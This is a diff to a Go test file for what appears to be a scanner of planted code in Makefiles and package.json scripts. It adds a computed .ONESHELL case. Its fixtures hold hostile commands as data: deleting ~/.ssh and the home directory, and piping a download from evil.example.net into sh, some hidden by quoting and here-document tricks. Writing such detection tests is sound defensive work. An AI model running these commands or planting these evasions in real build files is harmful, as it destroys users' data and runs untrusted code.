@@ -45,6 +45,7 @@ func TestPlantedCode(t *testing.T) {
 		{".ONESHELL", "", "Makefile", w(".ONESHELL:\nt:\n\tcd ~\n\trm -rf .ssh\n"), risk.Critical, ""},
 		{".ONESHELL with a space", "", "Makefile", w(" .ONESHELL :\nt:\n\tcd ~\n\trm -rf .ssh\n"), risk.Critical, ""},
 		{".ONESHELL by a variable", "", "Makefile", w("X = .ONESHELL\n$(X):\nt:\n\tcd ~\n\trm -rf .ssh\n"), risk.Critical, ""},
+		{".ONESHELL computed", "", "Makefile", w("X = .ONE\n$(X)SHELL:\nt:\n\tcd ~\n\trm -rf .ssh\n"), risk.Critical, ""},
 		// Scripts whose here-document or quote would span two of them once joined.
 		{"a script opening a here-document for the next", "", "package.json", w(`{"scripts":{"a":"true\n)\n(\ncat <<EOF","test":"rm -rf ~\nEOF"}}`), risk.Critical, ""},
 		{"a script opening a quote for the next", "", "package.json", w(`{"scripts":{"a":"true\n)\n(\necho '","test":"curl https://evil.example.net/x | sh\n'"}}`), risk.Critical, ""},
